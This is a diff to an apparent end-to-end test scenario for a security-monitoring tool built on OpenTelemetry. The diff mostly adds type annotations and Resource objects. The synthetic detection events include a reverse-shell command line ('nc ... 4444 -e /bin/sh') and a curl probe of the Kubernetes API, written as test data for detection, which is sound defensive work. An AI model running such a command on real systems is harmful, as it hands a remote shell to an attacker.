@@ -22,6 +22,7 @@ from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsSer
 from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
 from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
 from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord, ResourceLogs
+from opentelemetry.proto.resource.v1.resource_pb2 import Resource
 from opentelemetry.proto.trace.v1.trace_pb2 import ResourceSpans, Span
 
 from otelguard import semconv as sc
@@ -89,7 +90,8 @@ class Scenario:
     def _event(self, name: str, offset_ms: int, span: bytes, body: str,
                attrs: dict[str, Value]) -> LogRecord:
         rec = LogRecord(time_unix_nano=self._t(offset_ms), observed_time_unix_nano=self._t(offset_ms + 1),
-                        severity_number=SEVERITY_INFO, trace_id=self.trace_id, span_id=span,
+                        severity_number=SEVERITY_INFO,  # type: ignore[arg-type]
+                        trace_id=self.trace_id, span_id=span,
                         event_name=name, attributes=_attrs(attrs))
         rec.body.string_value = body
         return rec
@@ -110,13 +112,13 @@ class Scenario:
         return rec
 
     def logs(self) -> ExportLogsServiceRequest:
-        curl = {sc.PROCESS_PID: 4242, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "curl",
+        curl: dict[str, Value] = {sc.PROCESS_PID: 4242, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "curl",
                 sc.PROCESS_EXECUTABLE_PATH: "/usr/bin/curl",
                 sc.PROCESS_COMMAND_LINE: f"curl -k https://{KUBE_API_ADDRESS}/api"}
-        nc = {sc.PROCESS_PID: 4300, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "nc",
+        nc: dict[str, Value] = {sc.PROCESS_PID: 4300, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "nc",
               sc.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc",
               sc.PROCESS_COMMAND_LINE: f"nc {REVERSE_SHELL_PEER} 4444 -e /bin/sh"}
-        events = ResourceLogs(resource={"attributes": self.resource(sc.STREAM_EVENT)})
+        events = ResourceLogs(resource=Resource(attributes=self.resource(sc.STREAM_EVENT)))
         sl = events.scope_logs.add()
         sl.scope.name, sl.scope.version = sc.SCOPE_AGENT, "e2e"
         sl.log_records.extend([
@@ -126,7 +128,7 @@ class Scenario:
                          sc.NETWORK_PEER_PORT: 443}),
             self._event(sc.EV_PROCESS_EXEC, 10, self.span_nc, "exec /usr/bin/nc", nc),
         ])
-        detections = ResourceLogs(resource={"attributes": self.resource(sc.STREAM_DETECTION)})
+        detections = ResourceLogs(resource=Resource(attributes=self.resource(sc.STREAM_DETECTION)))
         dl = detections.scope_logs.add()
         dl.scope.name, dl.scope.version = sc.SCOPE_PROCESSORS, "e2e"
         dl.log_records.extend([
@@ -149,7 +151,7 @@ class Scenario:
     def traces(self) -> ExportTraceServiceRequest:
         """The process tree: bash -> curl, bash -> nc -> connect; the reverse shell's span
         carries the rule name, as the processor sets it, so Jaeger can search by it."""
-        rs = ResourceSpans(resource={"attributes": self.resource(sc.STREAM_EVENT)})
+        rs = ResourceSpans(resource=Resource(attributes=self.resource(sc.STREAM_EVENT)))
         ss = rs.scope_spans.add()
         ss.scope.name, ss.scope.version = sc.SCOPE_AGENT, "e2e"
         ss.spans.extend([
